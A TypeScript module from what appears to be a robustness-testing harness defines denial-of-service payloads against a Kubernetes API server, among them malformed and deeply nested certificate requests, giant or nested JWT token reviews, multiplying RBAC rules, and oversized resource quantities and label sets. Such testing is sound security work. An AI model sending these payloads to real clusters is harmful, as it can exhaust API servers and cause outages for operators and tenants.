import type { Attack, SizedAttack } from '../attack.ts';
import { bodyRequest, listed, posted } from '../bodies.ts';
import { createMany } from '../repeated.ts';

const JSON_TYPE = 'application/json';
const SIGNING = '/apis/certificates.k8s.io/v1/certificatesigningrequests?dryRun=All';
const TOKENS = '/apis/authentication.k8s.io/v1/tokenreviews';
const ACCESS = '/apis/authorization.k8s.io/v1/subjectaccessreviews';
const RULES = '/apis/authorization.k8s.io/v1/selfsubjectrulesreviews';
const ROLES = '/apis/rbac.authorization.k8s.io/v1/namespaces/tenant/roles?dryRun=All';
const BINDINGS = '/apis/rbac.authorization.k8s.io/v1/namespaces/tenant/rolebindings?dryRun=All';
const EVENTS = '/api/v1/namespaces/tenant/events?dryRun=All';
const SECRETS = '/api/v1/namespaces/tenant/secrets?dryRun=All';
const LEASES = '/apis/coordination.k8s.io/v1/namespaces/tenant/leases?dryRun=All';
const DEPLOYMENTS = '/apis/apps/v1/namespaces/tenant/deployments?dryRun=All';
const NODES = '/api/v1/nodes?dryRun=All';

function signing(name: string, sends: string, n: number, pem: (n: number) => string): Attack {
  return posted('operator', SIGNING, JSON_TYPE, `signing: ${name}`, sends, n, (size) =>
    JSON.stringify({
      metadata: { name: 'a' },
      spec: {
        request: Buffer.from(pem(size)).toString('base64'),
        signerName: 'kubernetes.io/kube-apiserver-client',
        usages: ['client auth'],
      },
    }),
  );
}

const quantities = (n: number, text: string): string =>
  JSON.stringify({
    metadata: { name: 'a' },
    status: {
      capacity: Object.fromEntries(Array.from({ length: n }, (_, i) => [`example.com/r${i}`, text])),
    },
  });

const AUTOSCALERS = '/apis/autoscaling/v2/namespaces/tenant/horizontalpodautoscalers?dryRun=All';
const CONTROLLERS = '/api/v1/namespaces/tenant/replicationcontrollers';
const MAPS = '/api/v1/namespaces/tenant/configmaps';

const CONTROLLER_LABELS = 7_500;
const controllerOf = (n: number): string => `scaled-${n}`;
const controller = (name: string, n: number): string => {
  const labels = listed(n, (i) => `"k${i}":"v"`);
  return `{"metadata":{"name":"${name}"},"spec":{"selector":{${labels}},"template":{"metadata":{"labels":{${labels}}},"spec":{"containers":[{"name":"a","image":"b"}]}}}}`;
};

/** The scale of a controller of n labels. */
const scaled: SizedAttack = {
  name: 'the scale of a large controller',
  sends: 'a number of replicas for a controller that owns tens of thousands of fields',
  caller: 'tenant',
  n: CONTROLLER_LABELS,
  async prepare(target) {
    const sizes = [1, 2, 4].map((times) => times * CONTROLLER_LABELS);
    const controllers = sizes.map((n) => JSON.parse(controller(controllerOf(n), n)) as object);
    await createMany(target, CONTROLLERS, controllers);
  },
  request: (n) => ({
    ...bodyRequest(
      'PATCH',
      `${CONTROLLERS}/${controllerOf(n)}/scale`,
      'application/merge-patch+json',
      `{"spec":{"replicas":${n}}}`,
    ),
    readBesides: controller('a', n).length,
  }),
};

/** One owner that there is, so that what it owns is not collected, and n that are not there. */
let tenantUid = '';
const owned: SizedAttack = {
  name: 'owners of an object, sent again',
  sends: 'thousands of owners of an object that has them already',
  caller: 'tenant',
  n: 6_000,
  async prepare(target) {
    const headers = [target.credentials('operator')];
    const { body } = await target.send({ path: '/api/v1/namespaces/tenant', headers });
    tenantUid = (JSON.parse(body) as { metadata: { uid: string } }).metadata.uid;
    await createMany(target, MAPS, [{ metadata: { name: 'owned' } }]);
  },
  request(n) {
    const owner = `{"apiVersion":"v1","kind":"Namespace","name":"tenant","uid":"${tenantUid}"}`;
    const owners = listed(n, (i) => `{"apiVersion":"v1","kind":"ConfigMap","name":"o${i}","uid":"u${i}"}`);
    const body = `{"metadata":{"name":"owned","ownerReferences":[${owner},${owners}]},"data":{"a":"${n}"}}`;
    return bodyRequest('PUT', `${MAPS}/owned`, JSON_TYPE, body);
  },
};

/** An autoscaler of the older version, with an annotation in which it keeps a field. */
function annotated(name: string, n: number, field: string, text: (n: number) => string): Attack {
  const path = AUTOSCALERS.replace('/v2/', '/v1/');
  return posted('tenant', path, JSON_TYPE, name, `a long annotation of ${field}`, n, (size) => {
    const annotation = `"autoscaling.alpha.kubernetes.io/${field}":${JSON.stringify(text(size))}`;
    return `{"metadata":{"name":"a","annotations":{${annotation}}},"spec":{"maxReplicas":1,"scaleTargetRef":{"kind":"A","name":"a"}}}`;
  });
}

export const attacks: readonly Attack[] = [
  scaled,
  owned,
  posted(
    'tenant',
    AUTOSCALERS,
    JSON_TYPE,
    'metrics of an autoscaler',
    'metrics by the ten thousand',
    6_000,
    (n) =>
      `{"metadata":{"name":"a"},"spec":{"maxReplicas":1,"scaleTargetRef":{"kind":"A","name":"a"},"metrics":[${listed(n, (i) => `{"type":"Resource","resource":{"name":"r${i}","target":{"type":"Utilization","averageUtilization":50}}}`)}]}}`,
  ),
  annotated('metrics of an autoscaler in an annotation', 480, 'metrics', (n) => {
    const metric = (i: number): string =>
      `{"type":"Resource","resource":{"name":"r${i}","targetAverageUtilization":50}}`;
    return `[${listed(n, metric)}]`;
  }),
  annotated('policies of an autoscaler in an annotation', 950, 'behavior', (n) => {
    const policies = listed(n, () => '{"Type":"Pods","Value":1,"PeriodSeconds":9}');
    return `{"ScaleUp":{"Policies":[${policies}]}}`;
  }),
  annotated(
    'too many conditions in an annotation',
    200_000,
    'conditions',
    (n) => `[${listed(n, () => '{}')}]`,
  ),
  posted(
    'tenant',
    `${CONTROLLERS}?dryRun=All`,
    JSON_TYPE,
    'labels of a replication controller',
    'labels that a replication controller selects its pods by',
    7_500,
    (n) => controller('a', n),
  ),
  posted(
    'tenant',
    SECRETS,
    JSON_TYPE,
    'texts of a secret',
    'texts that are merged into the bytes of a secret',
    7_500,
    (n) => `{"metadata":{"name":"a"},"stringData":{${listed(n, (i) => `"k${i}":"v"`)}}}`,
  ),
  posted(
    'tenant',
    DEPLOYMENTS,
    JSON_TYPE,
    'a long selector of a deployment',
    'labels that a deployment selects its pods by',
    7_500,
    (n) => {
      const labels = listed(n, (i) => `"k${i}":"v"`);
      return `{"metadata":{"name":"a"},"spec":{"selector":{"matchLabels":{${labels}}},"template":{"metadata":{"labels":{${labels}}},"spec":{"containers":[{"name":"a","image":"b"}]}}}}`;
    },
  ),
  signing('beginnings', '68 kB of -----BEGIN X-----', 1_000, (n) => '-----BEGIN X-----\n'.repeat(n)),
  signing('beginnings in one line', 'the same without line ends', 30_000, (n) =>
    '-----BEGIN X-----'.repeat(n),
  ),
  signing('dashes', 'dashes', 500_000, (n) => '-'.repeat(n)),
  signing('ends', 'endings', 25_000, (n) => `-----BEGIN A-----\n${'-----END B-----\n'.repeat(n)}`),
  signing(
    'headers',
    'header lines in a block',
    100_000,
    (n) => `-----BEGIN CERTIFICATE REQUEST-----\n${'a: b\n'.repeat(n)}-----END CERTIFICATE REQUEST-----`,
  ),
  signing(
    'body',
    'base64 in a block',
    500_000,
    (n) => `-----BEGIN CERTIFICATE REQUEST-----\n${'A'.repeat(n)}\n-----END CERTIFICATE REQUEST-----`,
  ),
  signing(
    'spaces',
    'spaces in a block',
    500_000,
    (n) => `-----BEGIN CERTIFICATE REQUEST-----${' '.repeat(n)}\n-----END CERTIFICATE REQUEST-----`,
  ),
  signing(
    'nested DER',
    'sequences in sequences',
    50_000,
    (n) =>
      `-----BEGIN CERTIFICATE REQUEST-----\n${Buffer.alloc(2 * n, Buffer.from([0x30, 0x80])).toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`,
  ),
  signing('DER of empty sequences', 'sequences of nothing', 50_000, (n) => {
    const content = Buffer.alloc(2 * n, Buffer.from([0x30, 0x00]));
    const length = content.length;
    const der = Buffer.concat([
      Buffer.from([0x30, 0x83, (length >> 16) & 255, (length >> 8) & 255, length & 255]),
      content,
    ]);
    return `-----BEGIN CERTIFICATE REQUEST-----\n${der.toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`;
  }),
  posted(
    'operator',
    TOKENS,
    JSON_TYPE,
    'token review',
    'a review of a long token',
    700_000,
    (n) => `{"spec":{"token":"${'a'.repeat(n)}"}}`,
  ),
  posted(
    'operator',
    TOKENS,
    JSON_TYPE,
    'token review of parts',
    'a token of dots',
    700_000,
    (n) => `{"spec":{"token":"${'.'.repeat(n)}"}}`,
  ),
  posted(
    'operator',
    TOKENS,
    JSON_TYPE,
    'token review of a JWT',
    'a token of huge parts',
    230_000,
    (n) => `{"spec":{"token":"${'e30'.repeat(n / 3)}.${'e30'.repeat(n / 3)}.${'AAA'.repeat(n / 3)}"}}`,
  ),
  posted(
    'operator',
    TOKENS,
    JSON_TYPE,
    'token review of nested JSON',
    'a token whose claims nest',
    150_000,
    (n) =>
      `{"spec":{"token":"${Buffer.from('{"alg":"ES256"}').toString('base64url')}.${Buffer.from('['.repeat(n)).toString('base64url')}.AAAA"}}`,
  ),
  posted(
    'operator',
    TOKENS,
    JSON_TYPE,
    'token review of audiences',
    'audiences without end',
    60_000,
    (n) => `{"spec":{"token":"a","audiences":[${listed(n, (i) => `"a${i}"`)}]}}`,
  ),
  posted(
    'operator',
    ACCESS,
    JSON_TYPE,
    'access review of groups',
    'groups without end',
    60_000,
    (n) =>
      `{"spec":{"user":"a","groups":[${listed(n, (i) => `"g${i}"`)}],"resourceAttributes":{"verb":"get","resource":"pods"}}}`,
  ),
  posted(
    'operator',
    ACCESS,
    JSON_TYPE,
    'access review of extras',
    'extra values without end',
    60_000,
    (n) =>
      `{"spec":{"user":"a","extra":{${listed(n, (i) => `"e${i}":["a"]`)}},"resourceAttributes":{"verb":"get","resource":"pods"}}}`,
  ),
  posted(
    'user',
    RULES,
    JSON_TYPE,
    'rules review',
    'a namespace of 3 MB',
    700_000,
    (n) => `{"spec":{"namespace":"${'a'.repeat(n)}"}}`,
  ),
  posted(
    'tenant',
    ROLES,
    JSON_TYPE,
    'role of rules',
    'rules without end, each compared with the rights of the caller',
    12_000,
    (n) =>
      `{"metadata":{"name":"a"},"rules":[${listed(n, (i) => `{"apiGroups":["g${i}"],"resources":["r"],"verbs":["get"]}`)}]}`,
  ),
  posted(
    'tenant',
    ROLES,
    JSON_TYPE,
    'role of one rule',
    'a rule that multiplies',
    100,
    (n) =>
      `{"metadata":{"name":"a"},"rules":[{"apiGroups":[${listed(n, (i) => `"g${i}"`)}],"resources":[${listed(n, (i) => `"r${i}"`)}],"verbs":[${listed(n, (i) => `"v${i}"`)}]}]}`,
  ),
  posted(
    'tenant',
    BINDINGS,
    JSON_TYPE,
    'binding of subjects',
    'subjects without end',
    12_000,
    (n) =>
      `{"metadata":{"name":"a"},"subjects":[${listed(n, (i) => `{"kind":"User","name":"u${i}"}`)}],"roleRef":{"apiGroup":"rbac.authorization.k8s.io","kind":"ClusterRole","name":"view"}}`,
  ),
  posted(
    'tenant',
    EVENTS,
    JSON_TYPE,
    'event message',
    'a message of 3 MB',
    700_000,
    (n) =>
      `{"metadata":{"name":"a","namespace":"tenant"},"involvedObject":{"namespace":"tenant"},"message":"${'a'.repeat(n)}"}`,
  ),
  posted(
    'tenant',
    SECRETS,
    JSON_TYPE,
    'secret keys',
    'keys without end',
    40_000,
    (n) => `{"metadata":{"name":"a"},"data":{${listed(n, (i) => `"k${i}":"YQ=="`)}}}`,
  ),
  posted(
    'tenant',
    SECRETS,
    JSON_TYPE,
    'secret of PEM',
    'a TLS secret of beginnings',
    30_000,
    (n) =>
      `{"metadata":{"name":"a"},"type":"kubernetes.io/tls","data":{"tls.crt":"${Buffer.from('-----BEGIN X-----\n'.repeat(n)).toString('base64')}","tls.key":""}}`,
  ),
  posted(
    'tenant',
    LEASES,
    JSON_TYPE,
    'lease time',
    'a time of 3 MB',
    700_000,
    (n) => `{"metadata":{"name":"a"},"spec":{"renewTime":"2024-01-01T00:00:00.${'0'.repeat(n)}Z"}}`,
  ),
  posted('operator', NODES, JSON_TYPE, 'quantity of zeros', 'a quantity of 3 MB', 700_000, (n) =>
    quantities(1, `1${'0'.repeat(n)}x`),
  ),
  posted('operator', NODES, JSON_TYPE, 'quantity of fractions', 'a fraction of 3 MB', 700_000, (n) =>
    quantities(1, `0.${'0'.repeat(n)}1`),
  ),
  posted('operator', NODES, JSON_TYPE, 'quantities', '300 quantities of 10 kB', 75, (n) =>
    quantities(n, `1.${'0'.repeat(10_000)}1${'0'.repeat(10)}`),
  ),
  posted('operator', NODES, JSON_TYPE, 'quantity exponent', 'a large exponent', 700_000, (n) =>
    quantities(1, `1e${'9'.repeat(n)}`),
  ),
  posted('operator', NODES, JSON_TYPE, 'short quantities', 'quantities without end', 20_000, (n) =>
    quantities(n, '1e18'),
  ),
];
